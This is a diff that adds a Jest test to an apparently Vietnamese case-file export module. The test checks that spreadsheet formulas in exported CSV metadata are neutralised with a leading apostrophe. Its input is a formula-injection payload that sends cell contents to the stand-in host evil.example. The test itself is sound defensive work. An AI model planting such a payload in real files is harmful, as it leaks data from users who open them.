@@ -460,6 +460,21 @@ describe('export and import packages', () => {
     expect(twice.body.code).toBe('case_file.code_taken');
   });
 
+  it('neutralises spreadsheet formulas in metadata.csv (a leading \' before = + - @ tab CR) and keeps metadata.xml as typed', async () => {
+    const description = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem")';
+    const cf = await create('snv.cv.tcbc', { notation: '32.TCBC', title: '@SUM(1+1) hồ sơ công thức', retentionYears: 10, startDate: '2025-01-02', description });
+    ok(await post('snv.luutru', `/api/case-files/${cf.id}/documents`, { kind: 'INCOMING', documentId: await incoming('+1 cộng với -1') }), 201);
+    const files = await contents((await binary((await as('snv.cv.tcbc')).agent.get(`/api/case-files/${cf.id}/export`))).body as Buffer);
+    const csv = files['metadata.csv'].toString();
+    // Every cell, quoted or not: none may start with a formula character.
+    const cells = csv.replace(/^\ufeff/, '').split('\r\n').filter(Boolean).flatMap((line) => line.match(/("(?:[^"]|"")*"|[^,]*)(?=,|$)/g)!.map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"')));
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(cells).toEqual(expect.arrayContaining([`'${description}`, "'@SUM(1+1) hồ sơ công thức", "'+1 cộng với -1"]));
+    const xml = files['metadata.xml'].toString();
+    expect(xml).toContain('<Title>@SUM(1+1) hồ sơ công thức</Title>');
+    expect(xml).toContain('<Subject>+1 cộng với -1</Subject>');
+  });
+
   it('refuses a corrupted package, naming the file whose checksum fails, and stores nothing', async () => {
     const cf = await create('snv.cv.tcbc', { notation: '31.TCBC', title: 'Hồ sơ hỏng', retentionYears: 10, startDate: '2025-01-02' });
     ok(await post('snv.luutru', `/api/case-files/${cf.id}/documents`, { kind: 'INCOMING', documentId: await incoming('Văn bản sẽ bị sửa') }), 201);
